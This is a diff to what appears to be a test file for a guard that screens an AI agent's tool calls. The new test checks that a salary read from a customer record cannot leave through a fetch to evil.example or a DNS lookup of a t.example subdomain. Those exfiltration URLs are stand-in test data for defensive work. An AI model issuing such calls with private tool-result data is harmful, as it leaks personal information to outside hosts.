@@ -110,3 +110,15 @@ def test_nor_within_a_text(frame: str, link: str) -> None:
 def test_a_text_full_of_links_is_stopped_and_not_searched_for_ever() -> None:
     body = " ".join(f"https://h{n}.site.example/" for n in range(20_000))
     assert not passes("send_email", {"to": "bo@corp.example", "subject": "a", "body": body}, ASKED)
+
+
+@pytest.mark.parametrize(
+    "host", ["https://evil.example/{}", "https://{}.t.example/", "{}.t.example"]
+)
+def test_five_digits_of_a_result_are_data_too(host: str) -> None:
+    read = ("customer_card", {"name": "Anna Weber"}, json.dumps({"salary": 84250, "ref": 184250}))
+    talk = Provenance(conversation("What does Anna Weber earn?", [read], TOOLS, ""), {})
+    name, argument = ("fetch_page", "url") if "//" in host else ("dns_lookup", "host")
+    assert not talk.judge(name, {argument: host.format("84250")}).passes
+    for other in ("18425", "2026"):
+        assert talk.judge(name, {argument: host.format(other)}).passes
